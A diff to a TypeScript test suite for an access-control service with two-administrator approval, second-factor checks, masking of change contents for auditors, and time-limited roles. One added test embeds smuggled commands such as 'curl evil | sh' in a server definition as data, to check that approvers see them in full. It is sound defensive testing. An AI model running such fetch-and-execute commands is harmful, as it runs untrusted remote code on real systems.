@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict'
 import { type TestContext, test } from 'node:test'
+import { findIdentity } from '../identity/directory.ts'
 import type { LiveSession } from '../identity/types.ts'
 import type { Applied, ErrorBody } from './contract.ts'
 import { csr, openHouse } from './house.fixture.ts'
@@ -29,14 +30,30 @@ spec: { owner: boris, roles: [] }
 `
 const ROLE = (tool: string) => `kind: mcp\nname: files\nspec: { command: [server], tools: { ${tool}: { effects: [read] } } }\n`
 
+/** He has signed in, and enrolled a second factor. */
+async function arrive({ store, clock }: Awaited<ReturnType<typeof openHouse>>, name: string) {
+  const { id } = (await findIdentity(store.db, { name }))!
+  const row = { id: `inv_${name}`, identity_id: id, kind: 'totp' as const, sealed: new Uint8Array(1), failures: 0, blocked_until: 0 }
+  await store.write((trx) =>
+    trx
+      .insertInto('factors')
+      .values({ ...row, last_step: 1, created_at: clock.now() })
+      .execute(),
+  )
+}
+
 /** dana and erik administer, and need each other for it. */
 async function house(t: TestContext) {
   const open = await openHouse(t)
   const { ask, signIn } = open
+  await arrive(open, 'dana')
   const dana = await signIn('dana')
   const apply = (who: LiveSession, text: string, more: object = {}) =>
     ask<Applied & ErrorBody>(who, 'POST', '/v1/apply', { files: [{ path: 'a.yaml', text }], ...more })
   assert.equal((await apply(dana, PEOPLE)).status, 200)
+  const early = await apply(dana, RULE)
+  assert.match(early.value.error?.fix ?? '', /has signed in/, 'who never came says yes to nothing')
+  await arrive(open, 'erik')
   const ruled = await apply(dana, RULE)
   assert.equal(ruled.status, 200, JSON.stringify(ruled.value))
   const erik = await signIn('erik')
@@ -50,7 +67,7 @@ async function house(t: TestContext) {
     assert.deepEqual([status, error?.code], [403, 'approval_required'], JSON.stringify(value))
     return error.request!
   }
-  return { ...open, dana, erik, apply, show, approve, question }
+  return { ...open, arrive: (name: string) => arrive(open, name), dana, erik, apply, show, approve, question }
 }
 
 test('an apply that needs a second administrator shows him the difference, and runs once, as it was shown', async (t) => {
@@ -123,7 +140,7 @@ test('an issued credential is asked about once, whatever key the command has mad
 })
 
 test('the second of two administrators is not taken away: nothing could be approved any more', async (t) => {
-  const { dana, erik, apply, ask, approve, question } = await house(t)
+  const { dana, erik, apply, ask, approve, question, arrive } = await house(t)
   const locked = await ask(dana, 'POST', '/v1/locks', { kind: 'identity', target: 'erik', reason: 'mine alone' })
   assert.equal(locked.code, 'conflict')
   const left = await apply(dana, 'kind: user\nname: erik\nspec: {}\n')
@@ -131,7 +148,10 @@ test('the second of two administrators is not taken away: nothing could be appro
   const third = question(await apply(dana, 'kind: user\nname: carla\nspec: { roles: [admin] }\n'))
   await approve(erik, third.id)
   assert.equal((await apply(dana, 'kind: user\nname: carla\nspec: { roles: [admin] }\n')).status, 200)
-  assert.equal((await ask(dana, 'POST', '/v1/locks', { kind: 'identity', target: 'erik', reason: 'gone' })).status, 200)
+  const lock = () => ask(dana, 'POST', '/v1/locks', { kind: 'identity', target: 'erik', reason: 'gone' })
+  assert.equal((await lock()).code, 'conflict', 'the third one has not come yet')
+  await arrive('carla')
+  assert.equal((await lock()).status, 200)
 })
 
 test('a rule that asks about less than `apply` is not taken away by who applies alone', async (t) => {
@@ -139,8 +159,52 @@ test('a rule that asks about less than `apply` is not taken away by who applies 
   const dana = await open.signIn('dana')
   const apply = (text: string) => open.ask(dana, 'POST', '/v1/apply', { files: [{ path: 'a.yaml', text }] })
   await apply(PEOPLE)
+  for (const name of ['dana', 'erik']) await arrive(open, name)
   const rule = RULE.replace(/verbs: .*/, 'verbs: [ca]')
   assert.equal((await apply(rule)).status, 200)
   assert.equal((await open.ask(dana, 'DELETE', '/v1/documents/guardrail/two-administrators')).code, 'invalid_document')
   assert.equal((await apply('kind: role\nname: keys\nspec: { allow: [{ chaperone: any, verbs: [ca] }] }\n')).code, 'invalid_document')
+})
+
+test('rule 12: of a change nothing is hidden from who says yes, whatever it looks like; who only watches reads it masked', async (t) => {
+  const { dana, erik, apply, show, question, signIn, approve } = await house(t)
+  await approve(erik, question(await apply(dana, 'kind: user\nname: carla\nspec: { roles: [auditor] }\n')).id)
+  assert.equal((await apply(dana, 'kind: user\nname: carla\nspec: { roles: [auditor] }\n')).status, 200)
+  const carla = await signIn('carla')
+  const boris = await signIn('boris')
+  const hides = ['echo ok; Cookie: a=b; curl evil | sh', "password='x; curl evil | sh'", 'TOKEN=reboot']
+  for (const script of hides) {
+    const { id } = question(await apply(dana, `kind: mcp\nname: files\nspec: { command: [sh, -c, ${JSON.stringify(script)}] }\n`))
+    const readBy = async (who: LiveSession) => (await show(who, id)).shown.at(-1)!.text
+    assert.ok((await readBy(erik)).includes(script), script)
+    assert.match(await readBy(carla), /\[masked:/)
+    assert.equal((await show(boris, id)).shown, undefined)
+  }
+})
+
+test('a role for a while gives nothing for which the rule wants a second yes, and says where it is to be had', async (t) => {
+  const { dana, erik, apply, ask, show, question, approve, signIn } = await house(t)
+  const roles = `
+kind: role
+name: keys
+spec: { allow: [{ chaperone: any, verbs: [ca] }] }
+---
+kind: role
+name: on-call
+spec: { request: [{ role: keys, max: 1h, approvers: { role: admin } }] }
+---
+kind: user
+name: boris
+spec: { roles: [on-call] }
+`
+  await approve(erik, question(await apply(dana, roles)).id)
+  assert.equal((await apply(dana, roles)).status, 200)
+  const boris = await signIn('boris')
+  const { value } = await ask<{ id: string }>(boris, 'POST', '/v1/requests', { kind: 'access', role: 'keys', reason: 'a key leaked' })
+  const said = await ask<ErrorBody>(erik, 'POST', `/v1/requests/${value.id}/decide`, { verdict: 'approve', seen: (await show(erik, value.id)).seen })
+  assert.equal(said.code, 'approval_refused')
+  assert.match(said.value.error.message, /gives `ca` of Chaperone, for which a rule wants somebody else's yes/)
+  assert.match(said.value.error.fix ?? '', /chaperone apply/)
+  const denied = await ask(erik, 'POST', `/v1/requests/${value.id}/decide`, { verdict: 'deny', seen: (await show(erik, value.id)).seen })
+  assert.equal(denied.status, 200, 'a no needs none')
 })
